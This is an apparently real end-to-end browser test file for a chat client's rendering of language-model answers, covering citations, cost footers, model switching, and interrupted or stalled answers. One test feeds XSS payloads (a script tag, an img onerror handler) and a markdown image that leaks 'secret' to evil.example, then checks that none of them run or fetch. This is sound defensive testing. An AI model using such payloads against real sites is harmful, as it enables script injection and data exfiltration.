import { join } from 'node:path'
import {
  launchBrowser,
  type MockProviders,
  startMockProviders,
  startTestServer,
  type TestServer,
} from '@atelier/testkit'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import {
  askThrough,
  createWorkspaceThrough,
  finishedAnswer,
  importFolderThrough,
  type OpenPage,
  openPage,
  signUpThrough,
} from './open-page.ts'

const browser: Browser | null = await launchBrowser()
const project = join(import.meta.dirname, '../../packages/client')

describe.skipIf(browser === null)('answers of language models in a real browser', () => {
  let providers: MockProviders
  let server: TestServer
  let view: OpenPage

  beforeAll(async () => {
    providers = await startMockProviders()
    server = await startTestServer({ environment: providers.environment })
    view = await openPage(browser as Browser, server.url)
    await signUpThrough(view.page, 'Ada', 'ada@example.com')
    await createWorkspaceThrough(view.page, 'client')
    await importFolderThrough(view.page, project)
  })
  beforeEach(() => providers.heal())
  afterAll(async () => {
    await view?.[Symbol.asyncDispose]()
    await browser?.close()
    await server?.[Symbol.asyncDispose]()
    await providers?.[Symbol.asyncDispose]()
  })

  test('[PAGE10] places are chips with a preview, code can be opened, and nothing in an answer runs or is fetched', async () => {
    const fetched: string[] = []
    view.page.on('request', (request) => fetched.push(request.url()))
    providers.answer('Where are streams read', {
      content: [
        'In `src/event-stream.ts:20-38` and src/client.ts:1-3; `nowhere.ts:1` is not there.',
        '<script>document.title = "run"</script><img src=x onerror="document.title=1">',
        '![secret](https://evil.example/?q=secret)',
        '```js\nconst a = 1\n```',
      ].join('\n\n'),
      usage: { prompt_tokens: 1000, completion_tokens: 50 },
    })
    await askThrough(view.page, 'Where are streams read?')
    await finishedAnswer(view.page)
    const answer = view.page.getByRole('article').last()
    await answer.locator('p [data-citation]').first().waitFor()
    expect(await answer.locator('p [data-citation]').allTextContents()).toEqual([
      'event-stream.ts:20-38',
      'client.ts:1-3',
    ])
    expect(await answer.locator('script, img').count()).toBe(0)
    expect(fetched.filter((url) => !url.startsWith(server.url))).toEqual([])

    await answer.locator('[data-citation="src/client.ts:1-3"]').first().hover()
    await view.page.getByRole('tooltip').getByText('import').first().waitFor()
    await view.picture('citation-preview-1440-dark')

    await answer.getByRole('button', { name: 'Open in editor' }).click()
    await view.page.getByRole('tab', { name: 'answer.js', selected: true }).waitFor()
    await view.page.locator('.cm-content', { hasText: 'const a = 1' }).waitFor()
  })

  test('[PAGE9] the footer tells who answered, the tokens and the price; the chat adds up in the status line', async () => {
    const footer = view.page.getByRole('article').last().locator('footer')
    expect(await footer.innerText()).toMatch(/1,000 in, 50 out[\s\S]*\$0\.0/)
    expect(await view.page.getByTitle('The cost of this chat').innerText()).toMatch(/^\$0\.0/)
  })

  test('[PAGE7] another model carries the conversation on, and a reload brings it back', async () => {
    const { page } = view
    await page.getByRole('button', { name: /^Model:/ }).click()
    await page.getByPlaceholder('Search models and providers').fill('claude')
    await view.picture('model-picker-1440-dark')
    await page.getByRole('option').filter({ hasNotText: 'Best' }).first().click()
    await askThrough(page, 'And what did I ask before?')
    await finishedAnswer(page)
    const last = providers.requests.at(-1)
    expect(last?.protocol).toBe('anthropic')
    expect(JSON.stringify(last?.body)).toContain('Where are streams read?')
    await page.reload()
    for (const question of ['And what did I ask before?', 'Where are streams read?']) {
      await page.getByRole('article').getByText(question, { exact: true }).waitFor()
    }
  })

  test('[PAGE7] a cut answer keeps what came, says so, and can be asked again', async () => {
    const { page } = view
    providers.answer('Tell a long story', {
      content: 'Once upon a time there was a long, long story about streams.',
    })
    providers.fail({ kind: 'cut', after: 4 }, { times: 1 })
    await askThrough(page, 'Tell a long story')
    const answer = page.getByRole('article').last()
    const notice = answer.getByRole('alert')
    await notice.getByText('What had arrived is kept above.').waitFor()
    expect(await answer.innerText()).toContain('Once')
    expect(await answer.locator('footer').count()).toBe(0)
    await view.picture('interrupted-1440-dark')
    await notice.getByRole('button', { name: 'Try again' }).click()
    expect(await finishedAnswer(page)).toContain('story about streams.')
  })

  test('[PAGE7] Stop ends an answer that hangs and keeps what came', async () => {
    const { page } = view
    providers.answer('Never ending', { content: 'This begins and then falls silent for ever and ever.' })
    providers.fail({ kind: 'stall', after: 4 }, { times: 1 })
    await askThrough(page, 'Never ending')
    await page.getByRole('article').last().getByText('This').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('You stopped this answer.').waitFor()
    await page.getByRole('button', { name: 'Ask', exact: true }).waitFor()
  })

  test('[PAGE7] a reload in the middle of an answer takes it up again, and it can still be stopped', async () => {
    const { page } = view
    providers.answer('Reload me', {
      content: 'These words arrive before the page is left and then nothing more.',
    })
    providers.fail({ kind: 'stall', after: 5 }, { times: 1 })
    await askThrough(page, 'Reload me')
    await page.getByRole('article').last().getByText('These words').waitFor()
    await page.reload()
    await page.getByRole('article').last().getByText('These words').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByRole('article').last().getByText('You stopped this answer.').waitFor()
    await page.getByRole('article').last().locator('footer').waitFor()
  })

  test('[PAGE8] the view follows an answer while it arrives, until the reader scrolls up', async () => {
    const { page } = view
    providers.answer('A slow list', { content: manyLines })
    providers.fail({ kind: 'stall', after: 300 }, { times: 1 })
    await askThrough(page, 'A slow list')
    await page.getByRole('article').last().getByText('Line 50 of a long answer.').waitFor()
    await expect.poll(() => distanceToEnd(page)).toBeLessThan(50)
    await page.getByRole('article').last().getByText('Line 50 of a long answer.').hover()
    await page.mouse.wheel(0, -2000)
    await page.getByRole('button', { name: 'Latest' }).click()
    await expect.poll(() => distanceToEnd(page)).toBeLessThan(50)
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('You stopped this answer.').last().waitFor()
  })

  test('[PAGE8] an answer that comes all at once is shown from its beginning', async () => {
    const { page } = view
    providers.answer('A quick list', { content: manyLines })
    // However slow this machine is, no time passes on the page.
    await page.clock.setFixedTime(new Date())
    await askThrough(page, 'A quick list')
    await finishedAnswer(page)
    await expect.poll(() => distanceToEnd(page)).toBeGreaterThan(500)
    expect(await page.getByText('A quick list', { exact: true }).isVisible()).toBe(true)
    expect(view.complaints).toEqual([])
  })
})

const manyLines = Array.from({ length: 120 }, (_none, index) => `Line ${index} of a long answer.`).join(
  '\n\n',
)

/** What the measure below needs of an element. */
interface Box {
  parentElement: Box | null
  scrollTop: number
  scrollHeight: number
  clientHeight: number
}

/** Pixels between the end of the conversation and the end of what is shown. */
function distanceToEnd(page: Page): Promise<number> {
  const measure = (article: unknown) => {
    let element = article as Box | null
    while (element !== null && element.scrollHeight <= element.clientHeight) element = element.parentElement
    return element === null ? 0 : element.scrollHeight - element.scrollTop - element.clientHeight
  }
  return page.getByRole('article').last().evaluate(measure)
}
